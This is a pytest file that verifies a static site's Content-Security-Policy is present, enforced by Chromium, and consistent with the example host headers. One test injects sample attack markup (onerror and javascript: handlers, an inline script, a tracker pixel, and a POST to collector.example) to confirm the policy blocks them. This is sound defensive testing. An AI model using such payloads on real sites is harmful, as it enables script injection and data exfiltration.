"""The Content-Security-Policy: present on every page, enforced, never violated, and the host examples agree.

The policy (generator/csp.py) allows scripts only from this site's own files
(plus 'wasm-unsafe-eval' for Pyodide), no inline script or event handler at
all, no plugins, no <base>, and no request to any other origin.  These tests
prove each page carries it, that Chromium enforces it, that no page -- widgets
started -- trips it, and that the example header files for static hosts send
the same policy (with frame-ancestors, which only a header can carry).
"""

from __future__ import annotations

import http.server
import tempfile
from pathlib import Path

import pytest

from generator import csp

from .conftest import QuietHandler, Server, serve_folder
from .site_walk import built_pages, crawl_site, new_context, static_file, visit_all, wait_until

pytestmark = pytest.mark.browser

PROJECT = Path(__file__).resolve().parents[2]


def test_every_built_page_carries_the_policy_before_any_script_or_stylesheet(site_server) -> None:  # type: ignore[no-untyped-def]
    pages = built_pages(site_server.root)
    for path in pages:
        html = static_file(site_server.root, path).read_text(encoding="utf-8")  # type: ignore[union-attr]
        audit = csp.audit_html(html)
        assert audit.csp_meta == [csp.meta_policy()], path
        meta_at = html.index('http-equiv="Content-Security-Policy"')
        first_resource = min(i for i in (html.find("<script"), html.find("<link rel=\"stylesheet\"")) if i >= 0)
        assert meta_at < first_resource, f"{path}: the policy must come before what it governs"
        assert '<meta name="referrer" content="no-referrer">' in html, path


def test_no_page_has_an_inline_script_an_event_handler_an_inline_style_or_a_script_url(site_server) -> None:  # type: ignore[no-untyped-def]
    found = {}
    for path in built_pages(site_server.root):
        audit = csp.audit_html(static_file(site_server.root, path).read_text(encoding="utf-8"))  # type: ignore[union-attr]
        problems = audit.problems + [f"{audit.style_attributes} style attributes"] * bool(audit.style_attributes) \
            + [f"{audit.style_elements} <style> elements"] * bool(audit.style_elements)
        if problems:
            found[path] = problems
    assert found == {}
    print(f"\nCSP: {len(built_pages(site_server.root))} pages, 0 inline scripts, so 0 script hashes in the policy")


def test_no_page_logs_a_csp_violation_with_its_widgets_started_and_used(browser, site_server) -> None:  # type: ignore[no-untyped-def]
    crawl = crawl_site(browser, site_server.url, site_server.root)
    assert all(visit.csp_meta == [csp.meta_policy()] for visit in crawl.visits)
    violations = {visit.path or "/": visit.csp_violations + [line for line in visit.console_errors
                                                             if "Content Security Policy" in line]
                  for visit in crawl.visits}
    assert {path: found for path, found in violations.items() if found} == {}


def test_chromium_enforces_the_policy_injected_markup_cannot_run_or_call_out(browser, site_server) -> None:  # type: ignore[no-untyped-def]
    """If markup ever slipped past validation, the browser still refuses it: the policy is live, not decoration."""
    context = new_context(browser, site_server.url)
    page = context.new_page()
    page.goto(site_server("guides/"))
    page.evaluate("""() => {
      const box = document.createElement("div");
      box.innerHTML = '<img src="x" onerror="window.__pwned = 1">'
        + '<a id="pw-js" href="javascript:window.__pwned = 2">x</a>'
        + '<img src="https://tracker.example/pixel.gif">'
        + '<div style="display:none" id="pw-styled">styled</div>';
      document.body.append(box);
      const script = document.createElement("script");
      script.textContent = "window.__pwned = 3";
      document.body.append(script);
      document.getElementById("pw-js").click();
      fetch("https://collector.example/", { method: "POST", body: "typed" }).catch(() => {});
    }""")
    wait_until(page, "window.__pwCspViolations.length >= 5")
    directives = {line.split(" ")[0] for line in page.evaluate("window.__pwCspViolations")}
    assert page.evaluate("window.__pwned") is None
    assert {"script-src-elem", "script-src-attr", "img-src", "connect-src", "style-src-attr"} <= directives
    assert page.locator("#pw-styled").is_visible()  # the inline style="display:none" was refused too
    context.close()


# -- the example header files for static hosts ------------------------------------------------------------------

def test_the_example_host_files_are_the_ones_generator_csp_writes() -> None:
    for rel, text in csp.host_examples().items():
        assert (PROJECT / rel).read_text(encoding="utf-8") == text, f"{rel} is stale: run python -m generator.csp"


def test_the_header_policy_is_the_meta_policy_plus_who_may_frame_the_page() -> None:
    assert csp.header_policy() == csp.meta_policy() + "; frame-ancestors 'self'"
    assert csp.header_policy(embed=True) == csp.meta_policy() + "; frame-ancestors *"
    for text in csp.host_examples().values():
        assert csp.header_policy() in text and csp.header_policy(embed=True) in text


class HeaderHandler(QuietHandler):
    """A static host configured like the examples in hosting/: the policy sent as a header, per path."""

    def end_headers(self) -> None:
        embed = self.path.startswith(csp.EMBED_PATH)
        self.send_header("Content-Security-Policy", csp.header_policy(embed=embed))
        for name, value in csp.EXTRA_HEADERS.items():
            self.send_header(name, value)
        super().end_headers()


def serve_with_headers(root: Path) -> Server:
    import functools
    import threading

    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(HeaderHandler, directory=str(root)))
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    return Server(root, f"http://127.0.0.1:{httpd.server_address[1]}/", httpd)


@pytest.fixture(scope="module")
def header_server(built_site: Path):  # type: ignore[no-untyped-def]
    server = serve_with_headers(built_site)
    yield server
    server.httpd.shutdown()
    server.httpd.server_close()


def test_widgets_start_under_the_header_policy_which_also_governs_their_workers(browser, header_server) -> None:  # type: ignore[no-untyped-def]
    """A Web Worker gets the policy from its own response headers, not from the page's meta tag.

    Both tools share one runtime (bridge.js, worker.js, Pyodide), so one tool page proves it.
    """
    visits = visit_all(browser, header_server.url, ["tools/referral-checklist/"], use_widgets=True)
    assert visits[0].widgets and visits[0].controls_used > 0
    assert {v.path: v.widgets for v in visits if any(not s.endswith("=python") for s in v.widgets)} == {}
    assert {v.path: v.csp_violations for v in visits if v.csp_violations} == {}


def test_under_the_headers_only_embed_pages_can_be_framed_by_another_site(browser, header_server) -> None:  # type: ignore[no-untyped-def]
    pages = built_pages(header_server.root)
    embed = next(path for path in pages if path.startswith("embed/"))
    with tempfile.TemporaryDirectory() as folder:
        Path(folder, "index.html").write_text(
            f"<!doctype html><title>Learning platform</title>"
            f"<iframe title='embed' src='{header_server.url}{embed}'></iframe>"
            f"<iframe title='page' src='{header_server.url}guides/'></iframe>", encoding="utf-8")
        platform = serve_folder(Path(folder))
        try:
            context = new_context(browser, platform.url)
            page = context.new_page()
            page.goto(platform.url)  # "load" waits for both frames, allowed or refused
            assert page.frame_locator("iframe[title=embed]").locator(".pw-exit__button").is_visible()
            assert page.frame_locator("iframe[title=page]").locator(".pw-exit__button").count() == 0
            loaded = [frame.url for frame in page.frames]
            assert header_server.url + embed in loaded and header_server.url + "guides/" not in loaded
            context.close()
        finally:
            platform.httpd.shutdown()
            platform.httpd.server_close()
